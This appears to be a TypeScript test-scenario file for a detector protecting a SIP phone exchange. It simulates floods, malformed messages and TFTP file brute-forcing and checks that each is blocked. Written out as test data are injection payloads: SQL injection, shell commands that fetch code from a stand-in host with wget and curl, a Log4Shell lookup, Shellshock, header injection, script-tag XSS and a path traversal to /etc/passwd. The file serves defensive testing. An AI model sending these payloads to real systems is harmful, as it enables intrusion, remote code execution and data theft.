/** Too much, broken on purpose, or meant for what stands behind the PBX. */
import { flood, malformedFlood } from '../traffic/attacks.ts';
import { injection, type InjectedField } from '../traffic/call-attacks.ts';
import { atPort, inbound, oneWay, START, type Traffic } from '../traffic/datagram.ts';
import { WIRE_DISGUISES } from '../traffic/disguises.ts';
import { TFTP } from '../traffic/good-cases.ts';
import { tftpAsk, tftpWalk } from '../traffic/tftp.ts';
import { attack, ATTACKER, disguised, PBX } from './scene.ts';
import { blocks, type Group } from './scenario.ts';

const fragment = (text: string, field: InjectedField) => () => injection({ ...disguised(2, 1), user: text, field });

const walk = (foundEvery: number) => ({ source: ATTACKER, server: TFTP, count: 60, rate: 10, foundEvery });

/** Other protocols: HTTP requests and TLS hellos, one connection for each. */
function otherProtocols(): Traffic {
  return Array.from({ length: 30 }, (_, i) => {
    const hello = Buffer.from([0x16, 3, 1, 0, 60, 1, 0, 0, 56, 3, 3, ...Array.from({ length: 51 }, (_, k) => k * i)]);
    return inbound(START + i * 100, atPort(ATTACKER, 20_000 + i), PBX, hello);
  });
}

export const FLOODS: Group = {
  title: 'Floods and junk',
  kind: 'attack',
  scenarios: [
    {
      name: 'an OPTIONS flood',
      note: 'a PBX that is too busy for calls',
      traffic: () => flood(attack(1_200, 300)),
      said: blocks('flood.requests'),
    },
    {
      name: 'a flood from port after port',
      note: 'evading what is counted for a port',
      // As much as the kernel lets through of one address.
      traffic: () => flood({ ...attack(4_000, 580), ports: 'each' }),
      said: blocks('flood.requests'),
    },
    {
      name: 'a flood of a method that nobody knows',
      note: 'evading what counts known methods',
      traffic: () => flood({ ...attack(1_200, 300), method: 'HELLO' }),
      said: blocks('flood.requests'),
    },
    {
      name: 'malformed SIP',
      note: 'a PBX that crashes',
      traffic: () => malformedFlood(attack(60, 20)),
      said: blocks('malformed.messages'),
    },
    {
      name: 'malformed SIP from port after port',
      note: 'a PBX that crashes',
      traffic: () => malformedFlood({ ...attack(60, 20), ports: 'each' }),
      said: blocks('malformed.messages'),
    },
    {
      name: 'TLS hellos on the plain port',
      note: 'finding out what it is',
      traffic: otherProtocols,
      wire: WIRE_DISGUISES.TCP,
      said: blocks('malformed.messages'),
    },
  ],
};

export const FRAGMENTS: Group = {
  title: 'Commands in names',
  kind: 'attack',
  scenarios: [
    {
      name: 'SQL in From',
      note: "the PBX's database",
      traffic: fragment("1001'%20or%201=1--", 'from'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'SQL without spaces',
      note: 'filters that look for words',
      traffic: fragment("1001'/**/union/**/select/**/1--", 'to'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a shell command as the number dialled',
      note: 'a script that gets the number',
      traffic: fragment('$(wget%20http%3A%2F%2F203.0.113.66%2Fx)', 'to'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a look-up in the user agent',
      note: 'a logger that follows it',
      traffic: fragment('${jndi:ldap://203.0.113.66/a}', 'agent'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'SQL that is always true, and a comment',
      note: 'filters that look for a comparison',
      traffic: fragment("admin'%20or%20true--", 'to'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a shell command behind an ampersand',
      note: 'a script that gets the number',
      traffic: fragment("x'%20%26%20wget%20http%3a%2f%2f203.0.113.66", 'to'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a shell function that exports itself in the user agent',
      note: 'a shell that is started with the headers in its environment',
      traffic: fragment('() { :; }; /bin/bash -c "id"', 'agent'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'an escaped line end in a user',
      note: 'a header of its own in what the PBX sends on',
      traffic: fragment('1001%0d%0aRemote-Party-ID:%20x', 'to'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'an event handler as the caller',
      note: "the administrator's browser",
      traffic: fragment('%22%3e%3cbody%20onload=alert(1)%3e', 'from'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'SQL in the subject of a call',
      note: 'whatever keeps records of calls',
      traffic: fragment("x' union select secret from users--", 'subject'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a shell command in Call-ID',
      note: 'a script that gets the call’s name',
      traffic: fragment('$(curl${IFS}203.0.113.66)', 'call-id'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'an asserted identity that is SQL',
      note: 'whatever keeps records of calls, behind a trunk that passes it on',
      traffic: fragment("1001'%20or%201=1--", 'asserted-user'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a script as the asserted caller',
      note: 'the administrator’s browser',
      traffic: fragment('<script src=//203.0.113.66>', 'asserted'),
      said: blocks('injection.fragments'),
    },
    {
      name: 'a script as the caller',
      note: "the administrator's browser",
      traffic: fragment('%3Cscript%20src=//203.0.113.66%3E', 'from'),
      said: blocks('injection.fragments'),
    },
  ],
};

export const FILES: Group = {
  title: 'Provisioning files',
  kind: 'attack',
  scenarios: [
    {
      name: 'MAC address after MAC address over TFTP',
      note: 'passwords of phones',
      traffic: () => tftpWalk(walk(0)),
      said: blocks('tftp-bruteforce.files-refused'),
    },
    {
      name: 'names that all exist, over TFTP',
      note: 'passwords of phones',
      traffic: () => tftpWalk(walk(1)),
      said: blocks('tftp-bruteforce.files-asked'),
    },
    {
      name: 'names over TFTP of which the answers are not seen',
      note: 'passwords of phones',
      traffic: () => oneWay(tftpWalk(walk(0))),
      said: blocks('tftp-bruteforce.files-asked'),
    },
    {
      name: 'a path out of the TFTP directory',
      note: 'any file of the server',
      traffic: () => tftpAsk(TFTP, ATTACKER, ['../../../etc/passwd'], START, 1_000),
      said: blocks('injection.fragments'),
    },
  ],
};
